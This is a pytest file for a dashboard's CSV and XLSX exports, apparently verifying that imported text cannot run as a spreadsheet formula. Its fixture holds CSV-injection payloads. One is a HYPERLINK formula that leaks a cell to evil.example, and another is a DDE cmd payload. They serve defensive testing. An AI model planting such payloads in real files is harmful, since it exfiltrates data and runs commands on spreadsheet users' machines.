"""Exports are safe to open (issue 19, item 4): text from outside is written as text.

Department names, codes, peer groups and ticket categories come from the
platform's import. In a CSV a cell starting with = + - @ (or tab, CR, LF) is
read as a formula by spreadsheet programs, so it gets a leading single quote
(OWASP's CSV-injection guidance); in an XLSX every such cell is a string cell,
never a formula. Numbers (counts, rates, hours) stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from dashboard.app import create_app
from tests.support.console_city import login
from tests.support.console_site import console_site

TOKEN = "platform-token-for-the-export-tests"
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "group": "=cmd|' /C calc'!A0",
    "category": "+SUM(1,2)",
    "name2": "@SUM(A1:A9)",
    "name3": "-2+3",
    "name4": "\t=1+1",
    "name5": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    monkeypatch.setenv("HOTLINE_IMPORT_TOKEN", TOKEN)
    config, _, _, _ = console_site(tmp_path)
    body = {
        "departments": [
            {"code": "=1+1", "name": HOSTILE["name"], "level": 4, "parent_code": "D2",
             "peer_group": HOSTILE["group"]},
            {"code": "X2", "name": HOSTILE["name2"], "level": 4, "parent_code": "D2",
             "peer_group": HOSTILE["group"]},
            {"code": "X3", "name": HOSTILE["name3"], "level": 4, "parent_code": "D2"},
            {"code": "X4", "name": HOSTILE["name4"], "level": 4, "parent_code": "D2"},
            {"code": "X5", "name": "x" + HOSTILE["name5"], "level": 4, "parent_code": "D2"},
        ],
        "tickets": [
            {"external_id": "EVIL-1", "caller_number": "13800000009",
             "accepted_at": "2024-01-02 09:00", "due_at": "2024-01-05 09:00",
             "category": HOSTILE["category"], "department_code": "=1+1",
             "status": "dispatched"},
        ],
    }  # fmt: skip
    with TestClient(create_app(config), base_url="http://127.0.0.1") as client:
        answer = client.post("/api/import", json=body, headers={"Authorization": f"Bearer {TOKEN}"})
        assert answer.status_code == 200 and not answer.json()["errors"], answer.text
        assert login(client, "boss").status_code == 303
        yield client


def _csv_cells(client: TestClient, which: str) -> list[list[str]]:
    answer = client.get(f"/rates/export/{which}.csv?month=2026-11")
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell.rstrip("%"))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("which", ["three-rates", "ranking", "overdue"])
def test_csv_exports_quote_every_formula_looking_text_and_keep_numbers(
    site: TestClient, which: str
) -> None:
    rows = _csv_cells(site, which)
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert dangerous == [], dangerous
    text = "\n".join(cells)
    if which == "overdue":
        assert "'" + HOSTILE["category"] in cells
        assert "'" + HOSTILE["name"] in cells
    else:
        assert "'" + HOSTILE["name"] in cells and "'" + HOSTILE["group"] in text
        assert "'=1+1" in cells  # the code too
        assert "'" + HOSTILE["name2"] in cells and "'" + HOSTILE["name3"] in cells
        assert "'" + HOSTILE["name4"].strip() in cells  # the import strips the tab
        assert "x" + HOSTILE["name5"] in cells  # not at the start: left as it is


@pytest.mark.parametrize("which", ["three-rates", "ranking", "overdue"])
def test_xlsx_exports_hold_no_formula_and_numbers_as_numbers(
    site: TestClient, which: str, tmp_path: Path
) -> None:
    answer = site.get(f"/rates/export/{which}.xlsx?month=2026-11")
    assert answer.status_code == 200, answer.text
    path = tmp_path / "report.xlsx"
    path.write_bytes(answer.content)
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    strings = {c.value for c in cells if c.data_type == "s"}
    if which == "overdue":
        assert HOSTILE["category"] in strings and HOSTILE["name"] in strings
        at = [c.value for c in sheet[2]].index("剩余小时")
        hours = [r[at].value for r in sheet.iter_rows(min_row=3) if r[1].value]
        assert hours and all(isinstance(h, int | float) for h in hours), hours
    else:
        assert {HOSTILE["name"], HOSTILE["group"], "=1+1", HOSTILE["name2"]} <= strings
        numbers = [c.value for c in cells if c.data_type == "n"]
        assert numbers and all(isinstance(n, int | float) for n in numbers)
